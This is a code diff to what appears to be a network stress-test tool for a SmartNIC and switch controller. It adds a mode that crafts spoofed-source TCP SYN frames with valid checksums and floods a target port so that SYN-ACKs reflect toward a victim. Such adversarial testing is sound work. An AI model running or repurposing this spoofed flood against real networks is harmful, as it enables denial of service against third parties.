@@ -24,6 +24,13 @@ Kinds:
                   pays for its bytes and still becomes an elephant, so the
                   controller's admission limits are all that keeps the
                   switch's merge_flows table and the operator's onloads safe.
+  syns            minimal TCP SYNs (60-byte frames) from spoofed sources to
+                  DST:DPORT, an open port: each draws a SYN-ACK from the
+                  instance toward a victim, through the SmartNIC. On a border
+                  that probed every new destination of outbound TCP, each
+                  SYN-ACK started a probe round at the victim.
+
+The JSON line also says how many bytes of frames were sent ("bytes").
 """
 
 from __future__ import annotations
@@ -99,6 +106,19 @@ def elephant_frames(src_mac: str, dst_mac: str, dst: str, dport: int, rng: rando
     return frames
 
 
+def syn_frames(src_mac: bytes, dst_mac: bytes, dst: str, dport: int, rng: random.Random) -> list[bytes]:
+    frames = []
+    for _ in range(POOL):
+        src = _spoofed_source(rng)
+        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, rng.getrandbits(16), 0x4000, 64, 6, 0, src, socket.inet_aton(dst))
+        header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
+        tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), dport, rng.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
+        pseudo = src + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
+        frames.append((dst_mac + src_mac + b"\x08\x00" + header + tcp).ljust(60, b"\0"))
+    return frames
+
+
 def flood(iface: str, frames: list[bytes], rate: float, seconds: float) -> tuple[int, float]:
     """Send frames round-robin at `rate` per second for `seconds`; returns (sent, elapsed).
 
@@ -124,7 +144,7 @@ def flood(iface: str, frames: list[bytes], rate: float, seconds: float) -> tuple
 
 
 def main(argv: list[str]) -> int:
-    if len(argv) != 8 or argv[0] not in ("claimed-length", "spray", "elephants"):
+    if len(argv) != 8 or argv[0] not in ("claimed-length", "spray", "elephants", "syns"):
         print(__doc__, file=sys.stderr)
         return 2
     kind, iface, src_mac, dst_mac, dst, dport, rate, seconds = argv
@@ -133,10 +153,14 @@ def main(argv: list[str]) -> int:
         frames = claimed_length_frames(_mac(src_mac), _mac(dst_mac), dst, int(dport), rng)
     elif kind == "spray":
         frames = spray_frames(src_mac, dst_mac, dst, int(dport), rng)
+    elif kind == "syns":
+        frames = syn_frames(_mac(src_mac), _mac(dst_mac), dst, int(dport), rng)
     else:
         frames = elephant_frames(src_mac, dst_mac, dst, int(dport), rng)
     sent, elapsed = flood(iface, frames, float(rate), float(seconds))
-    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3)}), flush=True)
+    sizes = [len(frame) for frame in frames]
+    sent_bytes = sum(sizes) * (sent // len(frames)) + sum(sizes[: sent % len(frames)])
+    print(json.dumps({"sent": sent, "bytes": sent_bytes, "seconds": round(elapsed, 3)}), flush=True)
     return 0
 
 
